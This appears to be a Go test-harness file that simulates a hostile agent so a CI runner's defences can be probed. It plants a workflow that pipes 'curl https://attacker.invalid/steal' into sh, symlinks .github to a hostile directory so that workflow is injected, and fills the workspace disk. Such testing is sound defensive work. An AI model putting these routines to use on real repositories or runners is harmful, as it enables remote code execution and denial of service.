package fakeagent

import (
	"os"
	"path/filepath"
	"time"
)

// Attacks on what the runner imports and on the host's disk (issue 9, items 4
// and 8), registered here so hostile.go's tables stay as they are:
//
//	symlink-parent             .github as a symlink to hostile-ci/, which holds
//	                           workflows/evil.yml
//	disk-fill mb=<n> secs=<n>  write n MiB (default 64) into the workspace, then
//	                           keep running for secs (default 60) or until a signal
func init() {
	attackParams["symlink-parent"] = nil
	attackParams["disk-fill"] = []string{"mb", "secs"}
	hostileAttacks["symlink-parent"] = attackSymlinkParent
	hostileAttacks["disk-fill"] = attackDiskFill
}

func attackSymlinkParent(p *probe, _ attack) {
	if !p.plant(map[string]string{"hostile-ci/workflows/evil.yml": "on: [push]\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -s https://attacker.invalid/steal | sh\n"}, false) {
		return
	}
	if err := os.Symlink("hostile-ci", filepath.Join(p.r.env.Dir, ".github")); err != nil {
		p.info("could not create the .github symlink: %v", err)
		return
	}
	p.planted(".github -> hostile-ci, so .github/workflows/evil.yml is a workflow")
}

func attackDiskFill(p *probe, a attack) {
	mb := a.num("mb", 64)
	f, err := os.Create(filepath.Join(p.r.env.Dir, "hostile-fill.bin"))
	if err != nil {
		p.info("could not create the fill file: %v", err)
		return
	}
	chunk := make([]byte, 1<<20)
	x := uint32(2463534242)
	written := 0
	for ; written < mb; written++ {
		for i := range chunk { // incompressible, as a real fill would be
			x ^= x << 13
			x ^= x >> 17
			x ^= x << 5
			chunk[i] = byte(x)
		}
		if _, err := f.Write(chunk); err != nil {
			p.blocked("write stopped after %d MiB: %v", written, err)
			break
		}
	}
	if err := f.Close(); err != nil {
		p.info("close the fill file: %v", err)
	}
	p.planted("hostile-fill.bin holds %d MiB; holding for %d s", written, a.num("secs", 60))
	select {
	case s := <-p.r.env.Signals:
		p.err = stopped{signalExit(s)}
	case <-time.After(time.Duration(a.num("secs", 60)) * time.Second):
		p.info("still running after %d s: nothing stopped the fill", a.num("secs", 60))
	}
}
